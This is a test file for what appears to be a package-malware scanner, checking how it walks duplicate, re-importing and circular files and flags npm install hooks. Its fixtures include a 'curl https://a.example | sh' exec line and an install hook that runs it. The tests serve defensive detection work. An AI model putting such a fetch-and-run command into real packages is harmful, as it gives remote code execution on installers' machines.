import { describe, expect, it } from 'vitest'
import { packageOf } from '../../../test/samples.ts'
import type { EcosystemId } from '../../core/types.ts'
import { gatherFacts } from '../gather.ts'

/** Files in which something was noted. */
const noted = (ecosystem: EcosystemId, files: Record<string, string>): string[] =>
  [...new Set(gatherFacts(packageOf({ says: '', ecosystem, files }).pkg).actions.map(({ file }) => file))].toSorted()

const RUNS = 'require("child_process").exec("curl https://a.example | sh")'
const LOADS = 'const { line } = require("./line"); require("child_process").exec(line)'

describe('the same code in two places', () => {
  it('is walked once', () => {
    expect(noted('npm', { 'a/x.js': RUNS, 'b/x.js': RUNS, 'c.js': `${RUNS};` })).toEqual(['a/x.js', 'c.js'])
    expect(noted('pypi', { 'a/x.py': 'import os\nos.system("id")\n', 'b/x.py': 'import os\nos.system("id")\n' })).toEqual(['a/x.py'])
  })

  it('is walked again where its imports lead elsewhere', () => {
    const [harmless, harmful] = ['exports.line = "ls"', 'exports.line = "curl https://a.example | sh"']
    expect(noted('npm', { 'a/line.js': harmless, 'a/x.js': LOADS, 'b/line.js': harmful, 'b/x.js': LOADS })).toEqual(['b/x.js'])
    expect(noted('npm', { 'a/line.js': harmful, 'a/x.js': LOADS, 'b/line.js': harmful, 'b/x.js': LOADS })).toEqual(['a/x.js'])
  })

  it('is walked again where what its imports import leads elsewhere, or what they import is missing', () => {
    const between = 'module.exports = require("./deep")'
    const files = { 'a/line.js': between, 'a/x.js': LOADS, 'a/deep.js': 'exports.line = "ls"', 'b/line.js': between, 'b/x.js': LOADS }
    expect(noted('npm', { ...files, 'b/deep.js': 'exports.line = "id"' })).toContain('b/x.js')
    expect(noted('npm', files)).toContain('b/x.js')
  })

  it('is walked again where it asks for its own folder', () => {
    const own = `${RUNS}; require(__dirname + "/run.js")`
    expect(noted('npm', { 'a/x.js': own, 'b/x.js': own })).toEqual(['a/x.js', 'b/x.js'])
  })

  it('counts what runs by itself, and not only what nobody loads', () => {
    const found = gatherFacts(packageOf({
      says: '', ecosystem: 'npm', files: { 'package.json': '{"scripts":{"install":"node z/x.js"}}', 'a/x.js': RUNS, 'z/x.js': RUNS },
    }).pkg)
    expect(new Set(found.actions.map(({ file, trigger }) => `${file} ${trigger.kind}`))).toEqual(new Set(['package.json install-hook', 'z/x.js install-hook']))
  })

  it('may import itself in circles', () => {
    const circle = { 'a.js': 'require("./b"); require("child_process").exec("id")', 'b.js': 'require("./a"); require("child_process").exec("id")' }
    const files = Object.fromEntries(['one', 'two', 'three'].flatMap((folder) => Object.entries(circle).map(([path, code]) => [`${folder}/${path}`, code])))
    expect(noted('npm', files)).toEqual(['one/a.js', 'one/b.js'])
  })
})
